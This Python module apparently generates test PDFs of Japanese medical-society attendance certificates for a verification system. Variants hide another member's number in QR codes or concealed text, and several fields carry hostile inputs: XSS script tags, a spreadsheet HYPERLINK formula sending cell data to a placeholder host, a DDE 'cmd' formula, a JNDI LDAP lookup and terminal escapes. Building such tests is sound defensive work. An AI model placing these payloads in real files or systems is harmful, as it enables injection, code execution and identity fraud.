"""Certificates whose text means harm to whoever shows it, and codes that claim another member."""

from hostile_lib import qr
from hostile_lib.pdf import Pdf, stream

# Of the demo's members file: whose name is on the paper, and whom the code claims.
HOLDER, OTHER = ("佐倉 美和", "204817"), "310592"
MEETING, DAYS = "第82回日本医学放射線学会総会", "2023年4月13日〜2023年4月16日"


def lines(rows, codes=b""):
    """A page of Japanese lines in a font that is not embedded; `codes` are operators drawn after them."""
    out = []
    for size, x, y, text in rows:
        out.append(f"BT /J {size} Tf {x} {y} Td <{text.encode('utf-16-be').hex()}> Tj ET\n")
    pdf = Pdf("".join(out).encode() + codes)
    pdf.add(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</J 6 0 R>>>>>>")
    pdf.add(6, "<</Type/Font/Subtype/Type0/BaseFont/Ryumin-Light/Encoding/UniJIS-UTF16-H/DescendantFonts[7 0 R]>>")
    pdf.add(7, "<</Type/Font/Subtype/CIDFontType0/BaseFont/Ryumin-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 4>>/FontDescriptor 8 0 R/W[1[500] 231 632 500]>>")
    pdf.add(8, "<</Type/FontDescriptor/FontName/Ryumin-Light/Flags 4/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 800/Descent -200/CapHeight 700/StemV 80>>")
    return pdf.bytes()


def certificate(holder=HOLDER[0], number=HOLDER[1], meeting=MEETING, codes=b"", more=()):
    rows = [
        (26, 240, 740, "参加証明書"),
        (14, 100, 660, f"氏名　{holder}　殿"),
        (14, 100, 630, f"会員番号　{number}"),
        (14, 100, 580, f"学会名　{meeting}"),
        (14, 100, 550, f"会期　{DAYS}"),
        (12, 100, 500, "上記の学会に参加したことを証明する。"),
        (12, 300, 440, "公益社団法人日本医学放射線学会"),
    ]
    return lines(rows + list(more), codes)


def claims(payload):
    return qr.drawn(payload.encode(), 420, 80, 4)


def cases(small):
    html = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"開く")'
    escape = "\x1b[2J\x1b]0;owned\x07\x9b31m"
    return {
        "certificate_plain.pdf": ("the same certificate without a lie", lambda: certificate()),
        "code_claims_another_member.pdf": ("a cover's code of another member on a certificate", lambda: certificate(codes=claims(f"DAICHO-COVER:1:{OTHER}"))),
        "code_is_another_number.pdf": ("the code is another member's number", lambda: certificate(codes=claims(OTHER))),
        "code_names_another_member.pdf": ("the code spells another member's name and number", lambda: certificate(codes=claims(f"会員番号:{OTHER} 氏名:髙橋 直人"))),
        "code_is_a_link.pdf": ("the code is a link with the other number", lambda: certificate(codes=claims(f"https://example.invalid/?member={OTHER}"))),
        "code_claims_nobody.pdf": ("a cover's code of a member who does not exist", lambda: certificate(codes=claims("DAICHO-COVER:1:999999"))),
        "code_is_an_escape.pdf": ("the code is a terminal escape", lambda: certificate(codes=claims("DAICHO-COVER:1:" + escape))),
        "code_alone_claims_another.pdf": ("a page with nothing but such a code", lambda: lines([], claims(f"DAICHO-COVER:1:{OTHER}"))),
        "text_invisible_claims_another.pdf": ("another member's name in invisible text", lambda: certificate(codes=f"BT 3 Tr /J 12 Tf 100 400 Td <{('氏名　髙橋 直人　会員番号　' + OTHER).encode('utf-16-be').hex()}> Tj ET\n".encode())),
        "text_white_claims_another.pdf": ("another member's name in white", lambda: certificate(holder="", number="", codes=f"1 g BT /J 12 Tf 100 400 Td <{('会員番号　' + OTHER).encode('utf-16-be').hex()}> Tj ET\n".encode())),
        "text_tiny_claims_another.pdf": ("another member's number in letters of 0.1 points", lambda: certificate(holder="", number="", codes=f"BT /J 0.1 Tf 100 400 Td <{('会員番号　' + OTHER).encode('utf-16-be').hex()}> Tj ET\n".encode())),
        "text_off_page_claims_another.pdf": ("another member's number beside the page", lambda: certificate(holder="", number="", codes=f"BT /J 12 Tf 700 400 Td <{('会員番号　' + OTHER).encode('utf-16-be').hex()}> Tj ET\n".encode())),
        "text_clipped_claims_another.pdf": ("another member's number outside the clip", lambda: certificate(holder="", number="", codes=f"q 0 0 1 1 re W n BT /J 12 Tf 100 400 Td <{('会員番号　' + OTHER).encode('utf-16-be').hex()}> Tj ET Q\n".encode())),
        "text_covered_claims_another.pdf": ("another member's number under a white box", lambda: certificate(holder="", number="", codes=f"BT /J 12 Tf 100 400 Td <{('会員番号　' + OTHER).encode('utf-16-be').hex()}> Tj ET 1 g 90 390 300 30 re f\n".encode())),
        "text_is_html.pdf": ("holder and meeting are HTML", lambda: certificate(holder=html, meeting=html + MEETING)),
        "text_is_formula.pdf": ("holder and meeting are formulas", lambda: certificate(holder=formula, number="=1+1", meeting="=cmd|' /C calc'!A0 " + MEETING)),
        "text_is_formula_at.pdf": ("texts that start with + - @ and a tab", lambda: certificate(holder="+81 佐倉", number="-204817", meeting="@SUM(1,2) " + MEETING)),
        "text_is_escape.pdf": ("holder and meeting carry terminal escapes", lambda: certificate(holder=HOLDER[0] + escape, meeting=MEETING + escape)),
        "text_turns_around.pdf": ("direction marks inside the name and number", lambda: certificate(holder="佐倉\u202e 和美\u202c", number="204\u200b817")),
        "text_long.pdf": ("a name of 50,000 letters", lambda: certificate(holder="佐倉" * (2_500 if small else 25_000))),
        "text_template.pdf": ("texts that look like templates and JSON", lambda: certificate(holder='{name}[x]"}\\n{"', meeting="{text}%s%n${jndi:ldap://x}")),
        "day_wild.pdf": ("days that do not exist", lambda: certificate(more=[(14, 100, 380, "会期　2023年99月99日〜99999999年2月31日"), (14, 100, 360, "令和99999999999999999999年1月1日")])),
    }


def cover_page(number):
    """A cover as a stranger may print it: the code large, the line in two corners."""
    return lines([(30, 150, 700, "表紙 / COVER"), (20, 150, 640, f"会員番号　{number}")], qr.drawn(f"DAICHO-COVER:1:{number}".encode(), 200, 300, 8))
